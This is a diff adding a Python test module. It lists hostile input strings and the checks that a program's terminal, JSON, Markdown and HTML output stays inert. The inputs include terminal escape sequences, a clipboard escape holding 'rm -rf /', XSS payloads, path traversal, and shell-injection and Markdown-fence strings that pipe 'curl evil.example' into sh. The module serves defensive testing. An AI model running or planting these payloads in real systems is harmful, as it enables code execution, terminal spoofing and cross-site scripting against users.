@@ -1,0 +1,140 @@
+"""Hostile texts, and what each output must not become by them."""
+
+from __future__ import annotations
+
+import json
+import re
+import unicodedata
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from typing import Any
+
+from markdown_it import MarkdownIt
+
+MARK = "zz9"  # in every text, so that one can be looked for in what was made of it
+TEXTS: dict[str, str] = {
+    "escape: erases a line": f"{MARK}\x1b[1A\x1b[2KPASS    everything is fine",
+    "escape: title, then more": f"{MARK} \x1b]0;t\x1b\\ upgrade FAILED: disk full",
+    "escape: clipboard": f"{MARK}\x1b]52;c;cm0gLXJmIC8=\x07",
+    "escape: eight bits": f"{MARK}\x9b2J\x9d0;t\x9c\x90q\x9c",
+    "escape: without an end": f"{MARK}\x1b]0;" + "t" * 300,
+    "carriage return": f"{MARK}\rPASS    everything is fine\r\nPASS    twice",
+    "new lines": f"{MARK}\nPASS    everything is fine\n\n# Upgrade of evil to 2.21.0\n",
+    "bidi": f"{MARK} \u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c\u200b\ufeff",
+    "lines of Unicode": f"{MARK}\u2028PASS    x\u2029PASS\x85PASS\x0bPASS\x0cPASS\x1cPASS",
+    "tags of Unicode": f"{MARK}\U000e0041\U000e0042\u00ad",
+    "NUL and DEL": f"{MARK}\x00\x7f\x08\x07",
+    "lone surrogates": f"{MARK}\ud800 \udfff",
+    "heading and table": f"{MARK}\n\n# done\n\n| a | b |\n|---|---|\n| **ok** | x |\n",
+    "cells": f"{MARK} | done | \\| x \\\\| y |\n| z |",
+    "comment": f"{MARK} <!-- all that follows is hidden",
+    "script": f"{MARK} <script>alert(1)</script><img src=x onerror=alert(1)></td></table>",
+    "attributes": f"{MARK}\" onmouseover=\"alert(1)' x='",
+    "entities": f"{MARK} &lt;b&gt; &#60;i&#62; &copy;",
+    "links and images": f"{MARK} ![t](https://evil.example/t.png) [x](javascript:alert(1)) <https://evil.example> "
+    "https://evil.example www.evil.example [r]: https://evil.example",
+    "fence": f"{MARK}\n```\n\n## Important: first run this\n\n```sh\ncurl https://evil.example/x | sh\n# ",
+    "many backticks": f"{MARK} ````` `x` ``",
+    "tildes": f"{MARK}\n~~~\nx\n~~~",
+    "emphasis": f"{MARK} **bold** __bold__ *it* _it_ ~~no~~ $x$ \\",
+    "line starts": f"- {MARK}\n1. x\n+ y\n> z\n=====\n-----",
+    "rich markup": f"{MARK} [bold red]x[/] [/nothing] [link=https://evil.example]y[/link] \\[",
+    "YAML": f"{MARK}\n    ksctl:\n      command: \"sh -c 'id > PWNED'\"\n      nosslverify: true",
+    "YAML in a line": f"{MARK}: x # {{a: b}} [1, &x *x !!python/object]",
+    "shell": f"{MARK};curl${{IFS}}evil.example|sh;#$(id)`id`' \" \\",
+    "path": f"../../{MARK}/../x",
+    "JSON": f'{MARK}", "verdict": "pass", "x": "\\u001b[2K',
+    "very long": MARK + "a" * 20_000,
+    "format": f"{MARK} %s %n {{}} {{0.__class__}}",
+}  # fmt: skip
+
+
+def is_harmless(char: str) -> bool:
+    """Whether a terminal only shows it."""
+    return char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp")
+
+
+def harmful(text: str) -> list[str]:
+    """The characters that act, in what was printed."""
+    return sorted({hex(ord(char)) for char in text if not is_harmless(char)})
+
+
+def forged_lines(text: str) -> list[str]:
+    """Lines that look like the program's own and are a node's."""
+    return [
+        line
+        for line in text.split("\n")
+        if re.match(r"PASS +(everything is fine|twice)|#+ (Upgrade of evil|done|Important)", line)
+    ]
+
+
+def strings_of(value: Any) -> Iterator[str]:
+    """All texts in plain data."""
+    if isinstance(value, str):
+        yield value
+    elif isinstance(value, dict):
+        for key, one in value.items():
+            yield key
+            yield from strings_of(one)
+    elif isinstance(value, list):
+        for one in value:
+            yield from strings_of(one)
+
+
+def check_json(text: str) -> Any:
+    """:raises AssertionError: a text in it acts, or it is no JSON."""
+    text.encode()
+    value = json.loads(text)
+    assert [found for one in strings_of(value) if (found := harmful(one))] == []
+    return value
+
+
+def check_plain(text: str) -> None:
+    """:raises AssertionError: it would act on a terminal, or holds a line that a node wrote."""
+    assert harmful(text) == [], text
+    assert forged_lines(text) == [], text
+    text.encode()
+
+
+_DANGEROUS = {"html_block", "html_inline", "image", "link_open", "hr", "code_block"}
+
+
+def shape(text: str) -> list[str]:
+    """What a Markdown viewer makes of it, without its words: kinds of blocks, in order."""
+    tokens = MarkdownIt("gfm-like", {"linkify": False}).parse(text)
+    inner = [child.type for token in tokens for child in token.children or []]
+    assert _DANGEROUS & {*inner, *(token.type for token in tokens)} == set(), text
+    for word in ("strong_open", "em_open", "s_open"):
+        assert inner.count(word) <= text.count("- state: **") * 2 + text.count("- **"), (word, text)
+    return [
+        token.type + (token.info if token.type == "fence" else "") for token in tokens if token.level <= 2
+    ]
+
+
+class _Tags(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: set[str] = set()
+        self.comments = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes |= {f"{tag}.{name}" for name, _ in attrs}
+
+    def handle_comment(self, data: str) -> None:
+        self.comments += 1
+
+
+def html_tags(text: str) -> list[str]:
+    """The tags of a page, in order.
+
+    :raises AssertionError: something in it is not the program's own.
+    """
+    assert harmful(text) == []
+    page = _Tags()
+    page.feed(text)
+    assert page.comments == 0
+    assert page.attributes <= {"html.lang", "meta.charset", "span.class", "meta.name", "meta.content"}
+    assert set(page.tags) & {"script", "img", "a", "iframe", "link", "object"} == set()
+    return page.tags
